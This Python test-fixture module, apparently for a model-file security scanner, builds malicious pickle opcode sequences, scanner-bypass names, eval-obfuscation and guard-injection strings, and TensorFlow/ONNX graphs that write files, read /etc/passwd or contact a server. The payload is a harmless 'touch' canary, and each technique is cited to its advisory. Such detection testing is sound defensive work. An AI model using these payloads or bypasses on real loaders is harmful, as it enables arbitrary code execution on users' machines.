"""Pickles that would run something, written instruction by instruction, and models whose operators would. None is ever loaded.

What they would do is create the file CANARY; where each was published stands beside it.
"""

from __future__ import annotations

from tests.builders.graph_file import (
    LAMBDA,
    keras_metadata,
    onnx_attribute,
    onnx_graph,
    onnx_model,
    onnx_node,
    onnx_tensor,
    tf_graph,
    tf_meta_graph,
    tf_node,
    tf_saved_model,
    tf_strings,
    tf_text,
    tf_texts,
    tflite,
)
from tests.builders.pickle_code import (
    APPEND,
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    TUPLE2,
    Code,
    built,
    call,
    instance,
    laughs,
    name,
    persistent,
    proto,
    text,
    value,
)

CANARY = "MODELSCOPE_CANARY_FIRED"
COMMAND = f"touch {CANARY}"


def short(string: str) -> Code:
    return Code(b"\x8c" + bytes([len(string)]) + string.encode())


def stacked(module: str, attribute: str) -> Code:
    """STACK_GLOBAL of two strings."""
    return Code(short(module) + short(attribute) + STACK_GLOBAL)


def four(code: bytes) -> bytes:
    return proto(4) + code + STOP


SYSTEM = call("posix.system", COMMAND)

# What it is: (the pickle, the name that must be told, where it was published)
ATTACKS: dict[str, tuple[bytes, str, str]] = {
    "reduce": (proto() + SYSTEM + STOP, "posix.system", "the first published: M. Slaviero, Sour Pickles, Black Hat 2011"),
    "inst": (b"(S'" + COMMAND.encode() + b"'\niposix\nsystem\n.", "posix.system", "Sour Pickles, 2011"),
    "obj": (MARK + name("posix.system") + text(COMMAND) + OBJ + STOP, "posix.system", "fickling pull request 108"),
    "newobj": (
        proto() + name("subprocess.Popen") + value((COMMAND,)) + NEWOBJ + STOP,
        "subprocess.Popen",
        "CPython Lib/pickletools.py",
    ),
    "newobj_ex": (
        four(stacked("subprocess", "Popen") + value((COMMAND,)) + value({"shell": True}) + NEWOBJ_EX),
        "subprocess.Popen",
        "CPython Lib/pickletools.py",
    ),
    "text protocol": (b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.", "os.system", "Sour Pickles, 2011"),
    "harmless beginning": (b"I1\n0K\x01" + POP + b"cos\nsystem\n(S'x'\ntR.", "os.system", "fickling, insertion of code"),
    "python 2 name": (b"c__builtin__\neval\n(S'1'\ntR.", "builtins.eval", "CPython Lib/_compat_pickle.py"),
    "out of the memo": (
        four(
            short("posix")
            + MEMOIZE
            + POP
            + short("system")
            + MEMOIZE
            + POP
            + short("torch")
            + short("Size")
            + b"0"
            + b"0"
            + b"h\x00"
            + b"h\x01"
            + STACK_GLOBAL
            + short(COMMAND)
            + TUPLE1
            + REDUCE
        ),
        "posix.system",
        "picklescan issue 22",
    ),
    "name behind decoys": (
        four(short("posix") + short("system") + short("x") + POP + STACK_GLOBAL + short(COMMAND) + TUPLE1 + REDUCE),
        "posix.system",
        "picklescan issue 22",
    ),
    "dotted name": (
        four(stacked("torch.serialization", "os.system") + short(COMMAND) + TUPLE1 + REDUCE),
        "torch.serialization.os.system",
        "GHSA-5j3x-jp52-966f",
    ),
    "submodule": (
        proto() + call("asyncio.unix_events._UnixSubprocessTransport._start", COMMAND) + STOP,
        "asyncio.unix_events._UnixSubprocessTransport._start",
        "CVE-2025-10157",
    ),
    "getattr chain": (
        proto() + call("builtins.getattr", name("torch.serialization.os"), "system") + value((COMMAND,)) + REDUCE + STOP,
        "builtins.getattr",
        "GHSA-q5qq-mvfm-j35x",
    ),
    "builtins of numpy": (
        four(stacked("numpy", "__builtins__") + short("eval") + TUPLE2),
        "numpy.__builtins__",
        "modelscan issue 330",
    ),
    "state of a function": (
        four(stacked("numpy", "size") + EMPTY_DICT + EMPTY_DICT + short("shape") + value(1) + SETITEM + TUPLE2 + BUILD),
        "numpy.size",
        "modelscan issue 330",
    ),
    "computed name": (
        four(short("builtins") + call("codecs.decode", "riny", "rot13") + STACK_GLOBAL + short("1") + TUPLE1 + REDUCE),
        "(computed).builtins",
        "CPython Modules/_pickle.c, load_stack_global",
    ),
    "persistent id of torch.package": (
        proto() + persistent(("reduce_package", 1, name("posix.system"), (COMMAND,))) + STOP,
        "posix.system",
        "torch/package/package_importer.py",
    ),
    "extension code": (proto() + b"\x82\x01" + EMPTY_TUPLE + REDUCE + STOP, "copyreg.extension 1", "CPython Lib/copyreg.py"),
    "then garbage": (proto() + SYSTEM + b"\xff\xff", "posix.system", "CVE-2025-1944's kin: what ran before the error has run"),
    "second pickle": (
        proto() + value({}) + STOP + proto() + SYSTEM + STOP,
        "posix.system",
        "picklescan, malicious pickles in a row",
    ),
    "text around it": (
        proto() + value(["x" * 300]) + POP + SYSTEM + POP + value({"a": 1}) + STOP,
        "posix.system",
        "fickling, insertion of code",
    ),
    "nested torch.save": (
        proto() + call("torch.storage._load_from_bytes", proto() + SYSTEM + STOP) + STOP,
        "posix.system",
        "torch/storage.py",
    ),
    "bound for defaultdict": (
        proto() + call("collections.defaultdict", name("os.getcwd")) + STOP,
        "os.getcwd",
        "modelaudit, call graph of factories",
    ),
    "mutated class": (
        proto() + built(name("torch.nn.modules.linear.Linear"), (None, {"forward": name("posix.system")})) + STOP,
        "posix.system",
        "CPython Modules/_pickle.c, load_build",
    ),
}

LOADER = name("torch.storage._load_from_bytes")
NESTED = proto() + SYSTEM + STOP  # bytes that _load_from_bytes unpickles
BOX = instance("shop.Box")
_MENDED = "not published: called by something else than an instruction"
ATTACKS |= {
    "stored as __setstate__": (
        proto() + built(built(BOX, {"__setstate__": LOADER}), NESTED) + STOP, "posix.system", _MENDED
    ),
    "stored as append": (proto() + built(BOX, {"append": LOADER}) + value(NESTED) + APPEND + STOP, "posix.system", _MENDED),
    "stored as extend": (
        proto() + built(BOX, {"extend": name("posix.system")}) + MARK + value(COMMAND) + APPENDS + STOP,
        "posix.system",
        _MENDED,
    ),
    "stored as a module": (
        proto() + built(instance("torch.nn.modules.module.Module"), {"_modules": {"append": LOADER}}) + value(NESTED) + APPEND + STOP,
        "posix.system",
        _MENDED,
    ),
    "given to a function that rebuilds": (
        proto() + call("torch._tensor._rebuild_from_type_v2", LOADER, name("torch.Tensor"), (NESTED,), {}) + STOP,
        "posix.system",
        _MENDED,
    ),
    "given to a constructor": (
        proto() + call("numpy.random._pickle.__generator_ctor", NESTED, LOADER) + STOP, "posix.system", _MENDED
    ),
    "given to copyreg": (proto() + call("copyreg.__newobj__", LOADER, NESTED) + STOP, "posix.system", _MENDED),
    "NUL in a number": (
        proto() + b"]p0\0x\n0" + SYSTEM + STOP, "posix.system", "not published: the unpickler in C cuts lines at a NUL"
    ),
    "what cannot be shown": (
        proto() + SYSTEM + b"0" + persistent(("storage", None, laughs(45, 2, 1), "cpu", 1)) + STOP,
        "posix.system",
        "not published: 2 ** 45 objects in a key",
    ),
}

# Steps of a pickle that runs code by harmless names alone (those of a whole one: torch.nn.ParameterDict answers with any attribute).
_HARMLESS = "not published: harmless names alone, put together to reach others"
_PARTS, _LSTM = "torch.nn.modules.container.ParameterDict", "torch.ao.nn.quantized.reference.modules.rnn.LSTM"
HARMLESS_NAMES: dict[str, tuple[bytes, str, str]] = {
    "attributes by going through a layer": (
        proto() + call("builtins.list", instance(_PARTS, {"_keys": {"__class__": None}})) + STOP, _PARTS, _HARMLESS
    ),
    "a layer of another class": (proto() + built(instance(_PARTS), {"__class__": name(_LSTM)}) + STOP, _LSTM, _HARMLESS),
    "arguments that nobody sees": (
        proto() + name("torch._tensor._rebuild_from_type_v2") + call("builtins.tuple", instance(_PARTS)) + b"R" + STOP, _PARTS, _HARMLESS
    ),
}

# Names that other scanners have let through, called by a pickle; (module, name, where that was published).
LET_THROUGH = (
    ("pty", "spawn", "GHSA-r7v6-mfhq-g3m2"),
    ("marshal", "loads", "GHSA-565g-hwwr-4pp3"),
    ("types", "FunctionType", "GHSA-565g-hwwr-4pp3"),
    ("runpy", "run_path", "GHSA-wfq2-52f7-7qvj"),
    ("cProfile", "run", "GHSA-p523-jq9w-64x9"),
    ("cProfile", "runctx", "GHSA-9w88-8rmg-7g2p"),
    ("ctypes", "CDLL", "GHSA-q5qq-mvfm-j35x"),
    ("importlib", "import_module", "GHSA-q5qq-mvfm-j35x"),
    ("code", "InteractiveInterpreter", "GHSA-q5qq-mvfm-j35x"),
    ("multiprocessing.util", "spawnv_passfds", "GHSA-q5qq-mvfm-j35x"),
    ("pydoc", "locate", "GHSA-5hvc-6wx8-mvv4"),
    ("timeit", "timeit", "GHSA-v7x6-rv5q-mhwc"),
    ("ensurepip", "_run_pip", "GHSA-xp4f-hrf8-rxw7"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "GHSA-p9w7-82w4-7q8m"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", "picklescan advisories, 2025"),
    ("idlelib.run", "Executive.runcode", "GHSA-m869-42cg-3xwr"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "GHSA-j343-8v2j-ff7w"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", "GHSA-3gf5-cxq9-w223"),
    ("doctest", "debug_script", "GHSA-fqq6-7vqf-w3fg"),
    ("trace", "Trace.run", "picklescan advisories, 2025"),
    ("profile", "Profile.run", "picklescan advisories, 2025"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", "GHSA-4whj-rm5r-c2v8"),
    ("torch.utils.collect_env", "run", "picklescan advisories, 2025"),
    ("torch.utils._config_module", "ConfigModule.load_config", "picklescan advisories, 2025"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "picklescan advisories, 2025"),
    ("torch._inductor.codecache", "compile_file", "GHSA-gx77-x2pv-48v7 and its kin"),
    ("torch._dynamo.guards", "GuardBuilder.get", "picklescan advisories, 2025"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "picklescan advisories, 2025"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", "picklescan advisories, 2025"),
    ("torch.serialization", "load", "picklescan"),
    ("numpy.f2py.crackfortran", "getlincoef", "picklescan advisories, 2025"),
    ("numpy.testing._private.utils", "runstring", "fickling, numpy_poc"),
    ("distutils.file_util", "write_file", "picklescan advisories, 2025"),
    ("ssl", "get_server_certificate", "picklescan advisories, 2025"),
    ("mailcap", "findmatch", "modelaudit, turn 1"),
    ("setuptools._distutils.spawn", "spawn", "modelaudit, turn 3"),
    ("pipes", "Template.copy", "modelaudit, turn 5"),
    ("typing", "_eval_type", "modelaudit, turn 7"),
    ("dataclasses", "_create_fn", "modelaudit, turn 9"),
    ("typing", "get_type_hints", "modelaudit, turn 11"),
    ("operator", "call", "modelaudit, turn 13"),
    ("operator", "attrgetter", "picklescan"),
    ("_operator", "methodcaller", "picklescan"),
    ("functools", "reduce", "fickling"),
    ("pip", "main", "GHSA-655q-fx9r-782v"),
    ("uuid", "_get_command_stdout", "fickling"),
    ("_osx_support", "_read_output", "fickling"),
    ("_aix_support", "_read_cmd_output", "fickling"),
    ("logging.config", "listen", "picklescan advisories"),
    ("builtins", "breakpoint", "picklescan"),
    ("bdb", "Bdb.run", "picklescan"),
    ("smtplib", "SMTP", "fickling"),
    ("sqlite3", "connect", "fickling"),
    ("zipfile", "ZipFile.extractall", "fickling"),
    ("transformers.pipelines", "pipeline", "its documentation: trust_remote_code"),
    ("joblib", "load", "picklescan, noted as missing"),
    ("pandas", "read_pickle", "picklescan, noted as missing"),
    ("numpy", "load", "picklescan, noted as missing"),
    ("dill._dill", "_create_function", "fickling"),
    ("cloudpickle.cloudpickle", "_builtin_type", "fickling"),
)

# Texts of a torch.export program that sympy would evaluate as Python; torch/_export/serde/serialize.py, _parse_sym_expr.
EXPRESSIONS = (
    f"__import__('os').system('{COMMAND}')",
    "().__class__.__base__.__subclasses__()",
    "eval('1')",
    "(eval)('1')",
    "open ('x', 'w')",
    "Max('open(1)')",
    "Max(eval)('1')",
    "Symbol('s0')(1)",
    "[x for x in y]",
    "(lambda: 1)()",
    "sympify(s0)",
    "s0.func(1)",
    "f\"{s0}\"",
)

# Guards of a program, which torch.export puts into a function, once as source and once between double quotes.
GUARDS = (
    "open('x', 'w').write('x')",
    "1#\n)\nopen('x', 'w')\ndef g():\n  (2",
    "L['x'].size()[0] == 4 or open('x')",
    "L['x'].size()[0] != 'a\"+str(open(1))+\"b'",
    "L['a\"+open(1)+\"b'].size()[0] == 4",
    "L[\"a'+open(1)+'b\"].size()[0] == 4",
    "L['a\"); import os #'].size()[0] == 4",
    "L['a\" or ']['or open(1)) #'].size()[0] == 4",
    "L['\\x22+open\\x281)'].size()[0] == 4",
    "L['x'].size().__class__",
    "L['x'].tolist()",
    "L['x']('y')",
    "L('x')",
    "L['x'] == 'y'",
    "(open)(1)",
    "math.sqrt(open)",
    "torch.load('x')",
    "[x for x in L]",
    "f'{open(1)}'",
    "max (exec)('1')",
    "lambda: 1",
    "x = 1",
    "1; 2",
    "L['x'].size()\n[0]",
)

# Python that does the same as os.system or eval and does not say so in these words.
SOURCES = (
    "from os import system\nsystem('id')\n",
    "from os import (path,\n    system as s)\ns('id')\n",
    "from builtins import eval as e\ne('1')\n",
    "import os as o\no.system('id')\n",
    "import pickle as p\np.loads(x)\n",
    "import sys\nsys.modules['os'].system('id')\n",
    "e = eval\ne('1')\n",
    "map(exec, ['1'])\n",
    "getattr(os, 'sys' + 'tem')('id')\n",
    "os \\\n . system('id')\n",
    "__builtins__['ev' + 'al']('1')\n",
    "f'{os . system(1)}'\n",
    "\U0001d428\U0001d42c.system('id')\n",
    "\U0001d41e\U0001d42f\U0001d41a\U0001d425('1')\n",
    "# coding: utf-7\n+AGU-val(1)\n",
)
# The same in the bytecode of modules for mobile, and what a library other than torch's would have to bring: (operator, verdict, code).
MOBILE = (
    ("aten::from_file", "dangerous", "script-files"),
    ("aten::save", "dangerous", "script-files"),
    ("image::write_file", "dangerous", "script-files"),
    ("evil::run", "unknown", "script-operators"),
    ("aten::add", "safe", None),
    ("prepacked::conv2d_clamp_run", "safe", None),
)
# Operators of TorchScript that read or write files.
SCRIPTS = (
    "torch.from_file('/x', True, 9)",
    "(torch).from_file('/x', True, 9)",
    "((torch)) . from_file('/x')",
    "(torch.from_file)('/x')",
    "torch.\\\nfrom_file('/x', True, 9)",
    "torch.  # '\n  from_file('/x')",
    "ops.aten.save(x, '/x')",
    "ops.image.read_file('/x')",
)

_ABUSE = "N. Zhu et al., My Model is Malware to You (TensorAbuse), IEEE S&P 2025"
_WRITES = tf_node("WriteFile", name="evil")
_OUTSIDE = {"location": f"../../{CANARY}", "offset": "0", "length": "4"}

# Models whose operators, or the places of whose data, reach out of them: (name of the file, bytes, what must be told, published where).
GRAPHS: dict[str, tuple[str, bytes, str, str]] = {
    "WriteFile in a SavedModel": ("saved_model.pb", tf_saved_model(_WRITES), "tensorflow.WriteFile", "modelscan"),
    "ReadFile in a function": ("saved_model.pb", tf_saved_model(functions=(tf_node("ReadFile"),)), "tensorflow.ReadFile", "modelscan"),
    "WriteFile in a graph in a string": (
        "saved_model.pb",
        tf_saved_model(tf_node("Const", value=tf_strings(tf_graph(_WRITES))), tf_node("DatasetFromGraph")),
        "tensorflow.WriteFile",
        "huggingface.co/MediumIQ/tfhunt-savedmodel-nested-writefile",
    ),
    "WriteFile in a frozen graph": ("frozen.pb", tf_graph(tf_node("Relu"), _WRITES), "tensorflow.WriteFile", "modelscan"),
    "WriteFile in a .meta": ("model.meta", tf_meta_graph(tf_graph(_WRITES)), "tensorflow.WriteFile", "modelscan"),
    "print to a file": (
        "saved_model.pb",
        tf_saved_model(tf_node("PrintV2", output_stream=tf_text(f"file://{CANARY}"))),
        "tensorflow.PrintV2",
        _ABUSE,
    ),
    "tensors to a server": (
        "saved_model.pb",
        tf_saved_model(tf_node("DebugIdentityV3", debug_urls=tf_texts("grpc://192.0.2.1:1"))),
        "tensorflow.DebugIdentityV3",
        _ABUSE,
    ),
    "a file as a constant": (
        "saved_model.pb",
        tf_saved_model(tf_node("ImmutableConst", memory_region_name=tf_text("/etc/passwd"))),
        "tensorflow.ImmutableConst",
        _ABUSE,
    ),
    "files of a folder": ("saved_model.pb", tf_saved_model(tf_node("MatchingFiles")), "tensorflow.MatchingFiles", _ABUSE),
    "a client of the network": ("saved_model.pb", tf_saved_model(tf_node("RpcClient")), "tensorflow.RpcClient", _ABUSE),
    "a dataset of a server": (
        "saved_model.pb", tf_saved_model(tf_node("DataServiceDatasetV4")), "tensorflow.DataServiceDatasetV4", _ABUSE
    ),
    "Python by its token": (
        "saved_model.pb",
        tf_saved_model(tf_node("EagerPyFunc", token=tf_text("pyfunc_0"))),
        "tensorflow.EagerPyFunc",
        "tensorflow/python/ops/script_ops.py",
    ),
    "Lambda beside a SavedModel": ("keras_metadata.pb", keras_metadata(LAMBDA), "Lambda", "CVE-2024-3660; modelscan"),
    "Lambda in a SavedModel": ("saved_model.pb", tf_saved_model(objects=(LAMBDA,)), "Lambda", "CVE-2024-3660"),
    "an asset elsewhere": ("saved_model.pb", tf_saved_model(assets=(f"../../{CANARY}",)), CANARY, "not published"),
    "ReadFile in TensorFlow Lite": ("model.tflite", tflite(3, "FlexReadFile"), "tensorflow.ReadFile", "not published"),
    "data outside of the folder": (
        "model.onnx", onnx_model(tensors=(onnx_tensor("w", _OUTSIDE),)), CANARY, "CVE-2022-25882, CVE-2024-27318"
    ),
    "data outside, in a graph of a node": (
        "model.onnx",
        onnx_model(onnx_node("If", attributes=onnx_attribute("then_branch", graph=onnx_graph(tensors=(onnx_tensor("w", _OUTSIDE),))))),
        CANARY,
        "CVE-2024-27318",
    ),
    "data at an absolute path": (
        "model.onnx", onnx_model(tensors=(onnx_tensor("w", {"location": "/etc/passwd"}),)), "/etc/passwd", "CVE-2022-25882"
    ),
    "data at an address": (
        "model.onnx",
        onnx_model(tensors=(onnx_tensor("w", {"location": "*/_ORT_MEM_ADDR_/*", "offset": "4096", "length": "4"}),)),
        "_ORT_MEM_ADDR_",
        "onnxruntime/core/framework/tensorprotoutils.h",
    ),
    "a Python operator": (
        "model.onnx",
        onnx_model(onnx_node("PyOp", "pyop_1", attributes=onnx_attribute("module", text="os") + onnx_attribute("class_name", text="popen"))),
        "pyop_1.PyOp",
        "onnxruntime, docs/PyOp.md",
    ),
    "a Python function by its name": (
        "model.onnx",
        onnx_model(onnx_node("PythonOp", "com.microsoft", attributes=onnx_attribute("func_name", text="a.b"))),
        "com.microsoft.PythonOp",
        "onnxruntime, orttraining",
    ),
}
